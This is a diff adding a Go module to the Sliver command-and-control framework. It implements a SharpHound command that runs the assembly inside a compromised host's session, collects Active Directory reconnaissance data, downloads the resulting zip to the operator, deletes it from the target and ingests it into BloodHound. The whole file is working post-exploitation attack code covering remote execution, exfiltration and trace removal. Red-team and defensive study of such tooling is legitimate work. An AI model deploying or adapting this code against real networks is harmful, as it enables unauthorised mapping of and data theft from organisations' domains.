@@ -0,0 +1,143 @@
+package bloodhound
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"context"
+	"crypto/rand"
+	"encoding/hex"
+	"errors"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+
+	"github.com/spf13/cobra"
+
+	"github.com/bishopfox/sliver/client/console"
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+	"github.com/bishopfox/sliver/util/encoders"
+)
+
+// SharpHoundCmd - Run SharpHound on the target, download the collection, and ingest it
+func SharpHoundCmd(cmd *cobra.Command, con *console.SliverConsoleClient, args []string) {
+	session := con.ActiveTarget.GetSessionInteractive()
+	if session == nil {
+		return
+	}
+	collection, _ := cmd.Flags().GetString("collection")
+	directory, _ := cmd.Flags().GetString("directory")
+	process, _ := cmd.Flags().GetString("process")
+	inProcess, _ := cmd.Flags().GetBool("in-process")
+	keep, _ := cmd.Flags().GetBool("keep")
+	upload, _ := cmd.Flags().GetBool("upload")
+
+	assembly, err := os.ReadFile(args[0])
+	if err != nil {
+		con.PrintErrorf("%s\n", err)
+		return
+	}
+	// SharpHound prefixes the zip's name with a timestamp
+	zipName := randomName() + ".zip"
+	collectorArgs := []string{
+		"--collectionmethods", collection,
+		"--outputdirectory", directory,
+		"--zipfilename", zipName,
+		"--nosavecache",
+	}
+	collectorArgs = append(collectorArgs, args[1:]...)
+
+	ctrl := make(chan bool)
+	con.SpinUntil(fmt.Sprintf("Running %s (%s) ...", filepath.Base(args[0]), collection), ctrl)
+	execAssembly, err := con.Rpc.ExecuteAssembly(context.Background(), &sliverpb.ExecuteAssemblyReq{
+		Request:   con.ActiveTarget.Request(cmd),
+		Assembly:  assembly,
+		Arguments: strings.Join(collectorArgs, " "),
+		Process:   process,
+		Arch:      "x84",
+		InProcess: inProcess,
+	})
+	ctrl <- true
+	<-ctrl
+	if err == nil && execAssembly.Response != nil && execAssembly.Response.Err != "" {
+		err = errors.New(execAssembly.Response.Err)
+	}
+	if err != nil {
+		con.PrintErrorf("%s\n", err)
+		return
+	}
+
+	remotePath, err := findCollection(cmd, directory, zipName, con)
+	if err != nil {
+		con.PrintErrorf("%s\n", err)
+		con.Printf("%s\n", execAssembly.Output)
+		return
+	}
+	download, err := con.Rpc.Download(context.Background(), &sliverpb.DownloadReq{
+		Request: con.ActiveTarget.Request(cmd),
+		Path:    remotePath,
+	})
+	if err == nil && download.Response != nil && download.Response.Err != "" {
+		err = errors.New(download.Response.Err)
+	}
+	if err == nil && download.Encoder == "gzip" {
+		download.Data, err = new(encoders.Gzip).Decode(download.Data)
+	}
+	if err != nil {
+		con.PrintErrorf("Failed to download %s: %s\n", remotePath, err)
+		return
+	}
+	con.PrintInfof("Downloaded %s (%d bytes)\n", remotePath, len(download.Data))
+	if !keep {
+		_, err = con.Rpc.Rm(context.Background(), &sliverpb.RmReq{
+			Request: con.ActiveTarget.Request(cmd),
+			Path:    remotePath,
+		})
+		if err != nil {
+			con.PrintWarnf("Failed to remove %s: %s\n", remotePath, err)
+		}
+	}
+	ingest(fmt.Sprintf("%s_%s", session.Hostname, filepath.Base(remotePath)), download.Data, session.UUID, upload, con)
+}
+
+// findCollection - The remote path of the zip SharpHound wrote
+func findCollection(cmd *cobra.Command, directory string, zipName string, con *console.SliverConsoleClient) (string, error) {
+	ls, err := con.Rpc.Ls(context.Background(), &sliverpb.LsReq{
+		Request: con.ActiveTarget.Request(cmd),
+		Path:    directory,
+	})
+	if err == nil && ls.Response != nil && ls.Response.Err != "" {
+		err = errors.New(ls.Response.Err)
+	}
+	if err != nil {
+		return "", err
+	}
+	for _, file := range ls.Files {
+		if !file.IsDir && strings.HasSuffix(file.Name, zipName) {
+			return strings.TrimRight(ls.Path, "\\/") + "\\" + file.Name, nil
+		}
+	}
+	return "", fmt.Errorf("collection %s not found in %s", zipName, directory)
+}
+
+func randomName() string {
+	buf := make([]byte, 6)
+	rand.Read(buf)
+	return hex.EncodeToString(buf)
+}